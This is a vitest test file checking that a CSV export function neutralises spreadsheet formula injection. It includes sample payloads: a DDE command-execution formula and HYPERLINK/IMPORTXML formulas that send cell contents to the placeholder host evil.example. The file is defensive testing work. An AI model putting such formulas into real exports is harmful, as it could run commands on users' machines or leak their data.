import { expect, test } from 'vitest';
import { toCsv } from '../../../src/shared/csv.ts';

/** Characters that begin a formula in a spreadsheet, in every spelling that reaches one (OWASP "CSV injection"). */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－'];
const FORMULAS = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://evil.example?"&A1)',
  'IMPORTXML("https://evil.example","//a")',
];

test('40 formulas leave as text, in any column, and each row keeps its cells (A9)', () => {
  const cells = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
  expect(cells).toHaveLength(40);
  for (const cell of cells) {
    const quoted = `"'${cell.replaceAll('"', '""')}"`;
    expect(
      toCsv(
        [cell, 'b'],
        [
          ['a', cell],
          [cell, 'b'],
        ],
      ),
    ).toBe(`\uFEFF${quoted},b\r\na,${quoted}\r\n${quoted},b\r\n`);
  }
});
